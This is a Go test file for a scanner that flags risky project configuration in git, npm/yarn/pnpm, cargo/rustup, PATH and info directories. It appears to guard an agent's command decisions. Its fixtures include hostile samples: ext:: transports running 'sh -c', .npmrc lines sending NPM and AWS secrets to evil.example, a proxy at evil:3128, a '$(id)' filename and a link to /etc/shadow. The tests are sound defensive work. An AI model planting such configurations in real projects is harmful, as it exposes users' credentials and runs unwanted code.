package paths

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

func TestParseGitConfig(t *testing.T) {
	es, err := ParseGitConfig([]byte("\ufeff# c\n[Core]\n\tFsMonitor = \"a b\" ; c\n\tbare\n[diff \"X y\"]\n\ttextconv = a\\\n b\n" +
		"[diff.Old]\n\tcommand=x # y\n[include]\npath = \"p\\\\q\"\n"))
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, e := range es {
		got = append(got, e.Key()+"="+e.Value)
	}
	want := "core.fsmonitor=a b|core.bare=|diff.X y.textconv=a b|diff.old.command=x|include.path=p\\q"
	if strings.Join(got, "|") != want {
		t.Fatalf("got %q\nwant %q", strings.Join(got, "|"), want)
	}
	for _, bad := range []string{"[core\nx=1\n", "x = 1\n", "[core]\n\tx = \"open\n", "[core]\n\tx = \\q\n", "[a \"b]\n", "[core]\n1x = 2\n", "[core]\nx y\n"} {
		if _, err := ParseGitConfig([]byte(bad)); err == nil || !strings.Contains(err.Error(), "line ") {
			t.Errorf("%q: err %v, want an error naming the line", bad, err)
		}
	}
}

func mkfile(t *testing.T, p, body string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(body), 0o755); err != nil {
		t.Fatal(err)
	}
}

// findings runs ConfigFindings and returns "file-relative-to-root key".
func findings(root, program, dir string) []string {
	var out []string
	for _, f := range ConfigFindings(program, dir, filepath.Join(root, "home")) {
		rel, _ := filepath.Rel(root, f.File)
		out = append(out, rel+" "+f.Key)
	}
	return out
}

func TestConfigFindingsGit(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	git := func(dir string, args ...string) {
		cmd := exec.Command("git", args...)
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "HOME="+root+"/home", "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null",
			"GIT_AUTHOR_NAME=x", "GIT_AUTHOR_EMAIL=x@example.com", "GIT_COMMITTER_NAME=x", "GIT_COMMITTER_EMAIL=x@example.com")
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	main := filepath.Join(root, "main")
	mkfile(t, main+"/a", "a\n")
	git(main, "init", "-q")
	git(main, "add", "a")
	git(main, "commit", "-qm", "a")
	if got := findings(root, "git", main); len(got) != 0 {
		t.Fatalf("a fresh repository: %v", got)
	}
	// A linked work tree reads the main repository's config.
	git(main, "worktree", "add", "-q", root+"/linked")
	mkfile(t, main+"/.git/config.worktree", "[core]\n\tfsmonitor = /x\n")
	if got := findings(root, "git", root+"/linked/sub"); strings.Join(got, ",") != "main/.git/config.worktree core.fsmonitor" {
		t.Errorf("linked work tree: %v", got)
	}
	os.Remove(main + "/.git/config.worktree")
	// Submodule repositories: their config and hooks.
	mkfile(t, main+"/.git/modules/lib/a/HEAD", "ref: refs/heads/main\n")
	os.MkdirAll(main+"/.git/modules/lib/a/objects", 0o755)
	os.MkdirAll(main+"/.git/modules/lib/a/refs", 0o755)
	mkfile(t, main+"/.git/modules/lib/a/config", "[diff]\n\texternal = /x\n")
	mkfile(t, main+"/.git/modules/lib/a/hooks/post-index-change", "#!/bin/sh\n")
	got := strings.Join(findings(root, "git", main), ",")
	if got != "main/.git/modules/lib/a/config diff.external,main/.git/modules/lib/a/hooks/post-index-change hook post-index-change" {
		t.Errorf("submodule: %v", got)
	}
	os.RemoveAll(main + "/.git/modules")
	// Includes: relative to the including file, ~ to home, depth bounded,
	// a missing file ignored as git does, a cycle stopped.
	mkfile(t, main+"/.git/config2", "")
	f, _ := os.OpenFile(main+"/.git/config", os.O_APPEND|os.O_WRONLY, 0)
	f.WriteString("[include]\n\tpath = ../inc\n\tpath = ~/inc2\n\tpath = /nonexistent/x\n")
	f.Close()
	mkfile(t, main+"/inc", "[pager]\n\tlog = x\n[include]\n\tpath = inc\n")
	mkfile(t, root+"/home/inc2", "[gpg]\n\tprogram = x\n")
	got = strings.Join(findings(root, "git", main), ",")
	if !strings.Contains(got, "main/inc pager.log") || !strings.Contains(got, "home/inc2 gpg.program") ||
		!strings.Contains(got, "include.path") {
		t.Errorf("includes: %v", got)
	}
	// An alternates file, a large config, an unreadable one.
	mkfile(t, main+"/.git/config", "[core]\n\tbare = false\n")
	mkfile(t, main+"/.git/objects/info/alternates", "/elsewhere/objects\n")
	if got := strings.Join(findings(root, "git", main), ","); got != "main/.git/objects/info/alternates " {
		t.Errorf("alternates: %v", got)
	}
	os.Remove(main + "/.git/objects/info/alternates")
	mkfile(t, main+"/.git/config", strings.Repeat("# x\n", maxConfigBytes/4+1))
	if got := findings(root, "git", main); len(got) != 1 {
		t.Errorf("a large config: %v", got)
	}
	// git lfs install's filter is the user's git-lfs; its custom
	// transfer agents are programs.
	mkfile(t, main+"/.git/config", "[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n\tsmudge = git-lfs smudge -- %f\n\tprocess = git-lfs filter-process\n\trequired = true\n")
	if got := findings(root, "git", main); len(got) != 0 {
		t.Errorf("git lfs filter: %v", got)
	}
	mkfile(t, main+"/.git/config", "[filter \"lfs\"]\n\tprocess = git-lfs filter-process\n[lfs \"customtransfer.x\"]\n\tpath = /x\n[filter \"l2\"]\n\tprocess = git-lfs filter-process && x\n")
	if got := strings.Join(findings(root, "git", main), ","); got != "main/.git/config lfs.customtransfer.x.path,main/.git/config filter.l2.process" {
		t.Errorf("git lfs custom transfer: %v", got)
	}
	// Transports that run commands.
	mkfile(t, main+"/.git/config", "[protocol \"ext\"]\n\tallow = always\n[remote \"o\"]\n\turl = ext::sh -c x\n[url \"ext::sh -c y \"]\n\tinsteadOf = https://\n[protocol \"file\"]\n\tallow = never\n")
	if got := strings.Join(findings(root, "git", main), ","); got != "main/.git/config protocol.ext.allow,main/.git/config remote.o.url,main/.git/config url.ext::sh -c y .insteadof" {
		t.Errorf("transports: %v", got)
	}
	// A proxy, unverified TLS or cookie files (per URL too) for the
	// network reads (git ls-remote, git remote show).
	mkfile(t, main+"/.git/config", "[http]\n\tproxy = http://evil:3128\n\tsslVerify = false\n[http \"https://github.com/\"]\n\tsslCAInfo = /tmp/ca\n\tcookieFile = ~/.bashrc\n\tsaveCookies\n\textraHeader = X-A: b\n")
	if got := strings.Join(findings(root, "git", main), ","); got != "main/.git/config http.proxy,main/.git/config http.sslverify,main/.git/config http.https://github.com/.sslcainfo,main/.git/config http.https://github.com/.cookiefile,main/.git/config http.https://github.com/.savecookies" {
		t.Errorf("http: %v", got)
	}
	// The user's own configuration is not reported, but a relative
	// core.hooksPath there names a project directory.
	mkfile(t, main+"/.git/config", "[core]\n\tbare = false\n")
	mkfile(t, root+"/home/.gitconfig", "[core]\n\tpager = delta\n\thooksPath = .hooks\n")
	mkfile(t, main+"/.hooks/post-index-change", "#!/bin/sh\n")
	if got := strings.Join(findings(root, "git", main), ","); got != "main/.hooks/post-index-change hook post-index-change" {
		t.Errorf("user config: %v", got)
	}
}

func TestConfigFindingsPackageManagers(t *testing.T) {
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	p := filepath.Join(root, "p")
	sub := filepath.Join(p, "packages/a")
	mkfile(t, sub+"/package.json", `{"name": "a"}`)
	for _, prog := range []string{"yarn", "npm", "pnpm"} {
		if got := findings(root, prog, sub); len(got) != 0 {
			t.Errorf("%s: a plain project: %v", prog, got)
		}
	}
	for _, c := range []struct {
		file, body, program, want string
	}{
		{"p/.yarnrc.yml", "yarnPath: .yarn/releases/yarn.cjs\n", "yarn", "p/.yarnrc.yml yarnPath"},
		{"p/.yarnrc.yml", "\"yarn\\u0050ath\": x.cjs\n", "yarn", "p/.yarnrc.yml "},
		{"p/.yarnrc.yml", "plugins:\n  - path: x.cjs\n", "yarn", "p/.yarnrc.yml plugins"},
		{".yarnrc", "yarn-path \"./x.js\"\n", "yarn", ".yarnrc yarn-path"},
		{"p/package.json", `{"packageManager": "yarn@https://example.com/y.tgz"}`, "yarn", "p/package.json packageManager"},
		{"p/packages/a/package.json", `{"package\u004danager": "pnpm@9.0.0"}`, "pnpm", "p/packages/a/package.json packageManager"},
		{"p/.npmrc", "userconfig=~/.ssh/id_rsa\n", "npm", "p/.npmrc userconfig"},
		{"p/.npmrc", "; x\nLOGS_DIR = /tmp/x\n", "npm", "p/.npmrc LOGS_DIR"},
		{"p/.npmrc", "script-shell=./x.sh\n", "pnpm", "p/.npmrc script-shell"},
		// A registry the project names gets what ${NAME} expands to.
		{"p/.npmrc", "registry=https://evil.example/\n//evil.example/:_authToken=${NPM_TOKEN}\n", "npm", "p/.npmrc //evil.example/:_authToken"},
		{"p/.npmrc", "@x:registry=https://evil.example/\nuser-agent=${AWS_SECRET_ACCESS_KEY}\n", "npm", "p/.npmrc user-agent"},
		{"p/.npmrc", "//registry.npmjs.org.evil.example/:_authToken=${NPM_TOKEN}\n", "npm", "p/.npmrc //registry.npmjs.org.evil.example/:_authToken"},
		{"p/.npmrc", "//evil.example/:_auth=${NPM_TOKEN}\n", "yarn", "p/.npmrc //evil.example/:_auth"},
		// A proxy or an unverified connection carries the user's own token.
		{"p/.npmrc", "https-proxy=http://evil.example:3128/\n", "npm", "p/.npmrc https-proxy"},
		{"p/.npmrc", "strict-ssl=false\n", "pnpm", "p/.npmrc strict-ssl"},
		{"p/.npmrc", "ca=\"-----BEGIN CERTIFICATE-----\"\n", "npm", "p/.npmrc ca"},
		{"p/.yarnrc.yml", "npmRegistryServer: https://evil.example\nnpmAuthToken: \"${NPM_TOKEN}\"\n", "yarn", "p/.yarnrc.yml "},
		{"p/.yarnrc.yml", "httpsProxy: http://evil.example:3128\n", "yarn", "p/.yarnrc.yml Proxy"},
		{"p/.yarnrc.yml", "enableStrictSsl: false\n", "yarn", "p/.yarnrc.yml StrictSsl"},
		{"p/.yarnrc.yml", "networkSettings:\n", "yarn", "p/.yarnrc.yml networkSettings"},
		{".yarnrc", "strict-ssl false\n", "yarn", ".yarnrc strict-ssl"},
		{"p/.pnpmfile.cjs", "module.exports = {}\n", "pnpm", "p/.pnpmfile.cjs "},
		{"p/pnpm-workspace.yaml", "packages: [a]\npnpmfile: x.cjs\n", "pnpm", "p/pnpm-workspace.yaml pnpmfile"},
	} {
		mkfile(t, filepath.Join(root, c.file), c.body)
		got := findings(root, c.program, sub)
		if len(got) != 1 || got[0] != c.want {
			t.Errorf("%s %q: %s: %v, want %q", c.file, c.body, c.program, got, c.want)
		}
		os.Remove(filepath.Join(root, c.file))
	}
	// Harmless keys.
	mkfile(t, p+"/.npmrc", "registry=https://registry.npmjs.org/\nsave-exact=true\n//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n")
	mkfile(t, p+"/.yarnrc.yml", "nodeLinker: node-modules\nenableTelemetry: false\n")
	mkfile(t, p+"/package.json", `{"packageManager": "yarn@4.1.0+sha512.abc"}`)
	for _, prog := range []string{"yarn", "npm"} {
		if got := findings(root, prog, sub); len(got) != 0 {
			t.Errorf("%s: harmless keys: %v", prog, got)
		}
	}
}

// BenchmarkConfigFindingsGit measures the look at a plain work tree's
// repository that every git command's decision now makes.
func BenchmarkConfigFindingsGit(b *testing.B) {
	if _, err := exec.LookPath("git"); err != nil {
		b.Skip("git not installed")
	}
	root := b.TempDir()
	cmd := exec.Command("git", "init", "-q", root+"/w")
	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null")
	if out, err := cmd.CombinedOutput(); err != nil {
		b.Fatalf("git init: %v %s", err, out)
	}
	os.MkdirAll(root+"/w/src/deep", 0o755)
	b.ReportAllocs()
	for b.Loop() {
		if f := ConfigFindings("git", root+"/w/src/deep", root+"/home"); len(f) != 0 {
			b.Fatal(f)
		}
	}
}

// More submodule repositories, or entries, than the reader looks at is a
// finding, never a directory skipped; a FIFO where a file is read does
// not stall the reader.
func TestConfigFindingsBounds(t *testing.T) {
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	g := root + "/w/.git"
	for _, d := range []string{"objects", "refs"} {
		os.MkdirAll(g+"/"+d, 0o755)
	}
	mkfile(t, g+"/HEAD", "ref: refs/heads/main\n")
	for i := range maxModuleDirs + 1 {
		mkfile(t, filepath.Join(g, "modules", fmt.Sprint(i)), "")
	}
	if got := findings(root, "git", root+"/w"); len(got) != 1 || got[0] != "w/.git/modules " {
		t.Errorf("many modules: %v", got)
	}
	os.RemoveAll(g + "/modules")
	// A config linked to a key file: the finding quotes nothing of it.
	mkfile(t, root+"/key", "b3BlbnNzaC1rZXktdjEAAAAABG5vbmU/AAAA\n")
	if err := os.Symlink(root+"/key", g+"/config"); err != nil {
		t.Fatal(err)
	}
	mkfile(t, root+"/w/package.json", "b3BlbnNzaC1rZXk\n")
	for _, prog := range []string{"git", "yarn"} {
		fs := ConfigFindings(prog, root+"/w", root+"/home")
		if len(fs) != 1 || strings.Contains(fs[0].Reason+fs[0].Key, "b3Bl") {
			t.Errorf("%s: a linked key file: %+v", prog, fs)
		}
	}
	os.Remove(g + "/config")
	if err := syscall.Mkfifo(g+"/config", 0o644); err != nil {
		t.Skip("no FIFOs here")
	}
	if got := findings(root, "git", root+"/w"); len(got) != 1 || got[0] != "w/.git/config " {
		t.Errorf("a FIFO config: %v", got)
	}
}

// rustup's toolchain file and cargo's configuration, read from the
// project up (TestRustProjectConfigIsNotReadOnly runs the real ones).
func TestConfigFindingsRust(t *testing.T) {
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Setenv("RUSTUP_HOME", filepath.Join(root, "rustup"))
	mkfile(t, root+"/rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/cargo", "")
	sub := filepath.Join(root, "p", "crates", "a")
	mkfile(t, sub+"/Cargo.toml", "[package]\nname = \"a\"\n")
	for _, prog := range []string{"cargo", "rustc"} {
		if got := findings(root, prog, sub); len(got) != 0 {
			t.Errorf("%s: a plain project: %v", prog, got)
		}
	}
	for _, c := range []struct{ file, body, program, want string }{
		{"p/rust-toolchain.toml", "[toolchain]\npath = \"./tc\"\n", "cargo", "p/rust-toolchain.toml path"},
		{"p/rust-toolchain.toml", "[toolchain]\nchannel = \"nightly-2020-01-01\"\n", "rustc", "p/rust-toolchain.toml nightly-2020-01-01"},
		{"p/rust-toolchain.toml", "[toolchain]\nchannel = \"stable\"\ncomponents = [\"clippy\"]\n", "cargo", "p/rust-toolchain.toml components"},
		{"p/rust-toolchain.toml", "[toolchain]\nchannel = \"stable\"\nx = 1\n", "cargo", "p/rust-toolchain.toml x"},
		{"p/rust-toolchain", "../tc\n", "cargo", "p/rust-toolchain ../tc"},
		{"p/crates/a/rust-toolchain", "beta\n", "rustc", "p/crates/a/rust-toolchain beta"},
		{"p/.cargo/config.toml", "[registry]\nglobal-credential-providers = [\"x\"]\n", "cargo", "p/.cargo/config.toml registr"},
		{"p/crates/a/.cargo/config", "[source.crates-io]\nreplace-with = \"x\"\n", "cargo", "p/crates/a/.cargo/config [source"},
		{".cargo/config.toml", "[http]\nproxy = \"x\"\n", "cargo", ".cargo/config.toml [http"},
		{"p/.cargo/config.toml", "\"cred\\u0065ntial-provider\" = \"x\"\n", "cargo", "p/.cargo/config.toml "},
	} {
		mkfile(t, filepath.Join(root, c.file), c.body)
		got := findings(root, c.program, sub)
		if len(got) == 0 || got[0] != c.want {
			t.Errorf("%s %q: %s: %v, want %q", c.file, c.body, c.program, got, c.want)
		}
		os.Remove(filepath.Join(root, c.file))
	}
	// An installed channel, the nearest toolchain file deciding, cargo's
	// configuration without the keys.
	mkfile(t, root+"/p/rust-toolchain.toml", "[toolchain]\nchannel = \"stable\"\nprofile = \"minimal\"\n")
	mkfile(t, root+"/rust-toolchain", "/elsewhere\n")
	mkfile(t, root+"/p/.cargo/config.toml", "[build]\njobs = 2\n")
	for _, prog := range []string{"cargo", "rustc"} {
		if got := findings(root, prog, sub); len(got) != 0 {
			t.Errorf("%s: harmless files: %v", prog, got)
		}
	}
}

// PATH chooses the file a command name runs: one found first in a
// directory inside the project (the directory, its repository's work
// tree) or through a relative entry is the project's program.
func TestConfigFindingsPathProgram(t *testing.T) {
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	home, p := filepath.Join(root, "home"), filepath.Join(root, "home", "p")
	exe := func(f string) {
		mkfile(t, f, "#!/bin/sh\n")
		os.Chmod(f, 0o755)
	}
	exe(p + "/.venv/bin/pip")
	exe(p + "/bin/ls")
	exe(root + "/sys/bin/ls")
	exe(home + "/.local/bin/pip")
	mkfile(t, p+"/tools/cat", "not executable")
	os.Chmod(p+"/tools/cat", 0o644)
	mkfile(t, p+"/.git/HEAD", "ref: refs/heads/main\n")
	os.MkdirAll(p+"/.git/objects", 0o755)
	os.MkdirAll(p+"/.git/refs", 0o755)
	sub := p + "/src"
	os.MkdirAll(sub, 0o755)
	cwd := "" // the call's directory
	pathFindings := func(path, program, dir string) string {
		pathEnv = func() string { return path }
		defer func() { pathEnv = func() string { return os.Getenv("PATH") } }()
		var out []string
		for _, f := range ConfigFindingsCall(nil, program, dir, cwd, home) {
			rel, _ := filepath.Rel(root, f.File)
			if f.File == "PATH" {
				rel = "PATH"
			}
			out = append(out, rel)
		}
		return strings.Join(out, ",")
	}
	for _, c := range []struct{ path, program, dir, want string }{
		{root + "/sys/bin", "ls", p, ""},
		{p + "/.venv/bin:" + root + "/sys/bin", "pip", p, "home/p/.venv/bin/pip"},
		{p + "/.venv/bin:" + root + "/sys/bin", "pip", sub, "home/p/.venv/bin/pip"}, // the repository's work tree
		{p + "/.venv/../bin:" + root + "/sys/bin", "ls", sub, "home/p/bin/ls"},
		{root + "/sys/bin:" + p + "/bin", "ls", p, ""},    // the system's is found first
		{p + "/tools:" + root + "/sys/bin", "cat", p, ""}, // not executable: skipped as the shell does
		{home + "/.local/bin:" + root + "/sys/bin", "pip", p, ""},
		{"bin:" + root + "/sys/bin", "ls", p, "home/p/bin/ls"},
		{":" + root + "/sys/bin", "ls", p + "/bin", "home/p/bin/ls"},
		{"bin:" + root + "/sys/bin", "ls", "", "PATH"},
		{root + "/sys/bin:" + p + "/bin", "ls", "", ""},
		{home + "/.local/bin", "pip", home, "home/.local/bin/pip"}, // the agent works in the home directory
	} {
		if got := pathFindings(c.path, c.program, c.dir); got != c.want {
			t.Errorf("PATH=%s %s in %s: %q, want %q", c.path, c.program, c.dir, got, c.want)
		}
	}
	// A directory not known statically: the call's tree is still the
	// project's (cd "$X" && pip list).
	cwd = p + "/src"
	if got := pathFindings(p+"/.venv/bin:"+root+"/sys/bin", "pip", ""); got != "home/p/.venv/bin/pip" {
		t.Errorf("dir not known, cwd in the project: %q", got)
	}
	if got := pathFindings(root+"/sys/bin:"+p+"/.venv/bin", "ls", ""); got != "" {
		t.Errorf("dir not known, the system's ls: %q", got)
	}
	cwd = ""
	// PATH entries are compared as written: a project reached through a
	// link is the project under either spelling.
	if err := os.Symlink(p, root+"/link"); err != nil {
		t.Fatal(err)
	}
	pathEnv = func() string { return root + "/link/.venv/bin:" + root + "/sys/bin" }
	got := ConfigFindingsCall(nil, "pip", p, "", home, root+"/link")
	pathEnv = func() string { return os.Getenv("PATH") }
	if len(got) != 1 || got[0].File != root+"/link/.venv/bin/pip" {
		t.Errorf("a project reached through a link: %+v", got)
	}
	// A repository of the home directory's dotfiles is not the project.
	mkfile(t, home+"/.git/HEAD", "ref: refs/heads/main\n")
	os.MkdirAll(home+"/.git/objects", 0o755)
	os.MkdirAll(home+"/.git/refs", 0o755)
	os.MkdirAll(home+"/q", 0o755)
	if got := pathFindings(home+"/.local/bin:"+root+"/sys/bin", "pip", home+"/q"); got != "" {
		t.Errorf("a dotfiles repository in the home: %q", got)
	}
}

// Toolchains and pages (the audit in testdata/project-reads.tsv): one
// hostile file per class, each found with its file; what everyday projects
// hold stays clean.
func TestConfigFindingsToolchainsAndPages(t *testing.T) {
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	p := filepath.Join(root, "p")
	sub := filepath.Join(p, "src")
	mkfile(t, sub+"/main.go", "package main\n")
	mkfile(t, p+"/README.md", "# p\n")
	mkfile(t, p+"/go.mod", "module p\n")
	mkfile(t, p+"/.git/HEAD", "ref: refs/heads/main\n")
	mkfile(t, p+"/.git/index", "DIRC\x00\x00\x00\x02\x1f\n\x1f\f")
	os.MkdirAll(p+"/.git/objects", 0o755)
	os.MkdirAll(p+"/.git/refs", 0o755)
	for _, prog := range []string{"go", "cargo", "rustc", "info"} {
		if got := findings(root, prog, p); len(got) != 0 {
			t.Errorf("%s: a plain project: %v", prog, got)
		}
	}
	for _, c := range []struct {
		file, body, program, dir, want string
	}{
		{"p/rust-toolchain.toml", "[toolchain]\npath = \"/x\"\n", "cargo", "p/src", "p/rust-toolchain.toml path"},
		{"rust-toolchain", "stable\n", "rustc", "p", "rust-toolchain stable"}, // not installed in this home
		{"p/.hg/hgrc", "[hooks]\n", "go", "p/src", "p/.hg"},
		{"p/_FOSSIL_", "", "go", "p", "p/_FOSSIL_"},
		{"p/.svn/wc.db", "", "go", "p", "p/.svn"},
		{"p/dir", "\x1f\nFile: dir,\tNode: Top\n", "info", "p", "p/dir"},
		{"p/dir.gz", "", "info", "p", "p/dir.gz"},
		{"p/q$(id).gz", "", "info", "p", "p/q$(id).gz"},
		{"p/a b.gz", "", "info", "p", "p/a b.gz"},
		{"p/My Notes (draft).txt", "plain text", "info", "p", ""},
		{"p/tool.info", "This is tool.info\n\x1f\nIndirect:\n", "info", "p", "p/tool.info"},
		{"p/tool", "x\x1f\fy", "info", "p", "p/tool"},
		{"p/man.gz", "\x1f\x8b\x08", "info", "p", "p/man.gz"},
		{"p/notes.xz", "\xfd7zXZ\x00", "info", "p", "p/notes.xz"},
		{"p/doc/index", "\x1f\n", "info", "p", "p/doc/index"},
	} {
		mkfile(t, filepath.Join(root, c.file), c.body)
		got := findings(root, c.program, filepath.Join(root, c.dir))
		if c.want == "" && len(got) != 0 || c.want != "" && (len(got) != 1 || strings.TrimSpace(got[0]) != c.want) {
			t.Errorf("%s %q: %s: %v, want %q", c.file, c.body, c.program, got, c.want)
		}
		os.RemoveAll(filepath.Join(root, c.file))
		if strings.Contains(c.file, "/.") || strings.HasSuffix(filepath.Dir(c.file), "doc") {
			os.RemoveAll(filepath.Join(root, filepath.Dir(c.file)))
		}
	}
	// A link info would follow, a FIFO (read without stalling) and a
	// directory too large to read are findings.
	if err := os.Symlink("/etc/shadow", p+"/zzz"); err != nil {
		t.Fatal(err)
	}
	if got := findings(root, "info", p); len(got) != 1 || strings.TrimSpace(got[0]) != "p/zzz" {
		t.Errorf("link: %v", got)
	}
	os.Remove(p + "/zzz")
	if err := syscall.Mkfifo(p+"/fifo", 0o644); err != nil {
		t.Fatal(err)
	}
	if got := findings(root, "info", p); len(got) != 1 || strings.TrimSpace(got[0]) != "p/fifo" {
		t.Errorf("fifo: %v", got)
	}
	os.Remove(p + "/fifo")
	big := filepath.Join(root, "big")
	for i := range maxInfoEntries + 1 {
		mkfile(t, fmt.Sprintf("%s/f%d", big, i), "")
	}
	if got := findings(root, "info", big); len(got) != 1 || strings.TrimSpace(got[0]) != "big" {
		t.Errorf("a large directory: %v", got)
	}
	if got := ConfigFindings("info", filepath.Join(root, "missing"), ""); len(got) != 1 {
		t.Errorf("a directory that cannot be read: %v", got)
	}
}

// BenchmarkConfigFindingsToolchains measures the look each go, cargo and
// info decision now makes: a plain work tree three levels deep, and for
// info a directory of 50 ordinary files.
func BenchmarkConfigFindingsToolchains(b *testing.B) {
	if _, err := exec.LookPath("git"); err != nil {
		b.Skip("git not installed")
	}
	root := b.TempDir()
	cmd := exec.Command("git", "init", "-q", root+"/w")
	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null")
	if out, err := cmd.CombinedOutput(); err != nil {
		b.Fatalf("git init: %v %s", err, out)
	}
	os.MkdirAll(root+"/w/src/deep", 0o755)
	for i := range 50 {
		os.WriteFile(fmt.Sprintf("%s/w/src/deep/f%d.go", root, i), []byte("package deep\n"), 0o644)
	}
	for _, prog := range []string{"go", "cargo", "info"} {
		b.Run(prog, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				if f := ConfigFindings(prog, root+"/w/src/deep", root+"/home"); len(f) != 0 {
					b.Fatal(f)
				}
			}
		})
	}
}
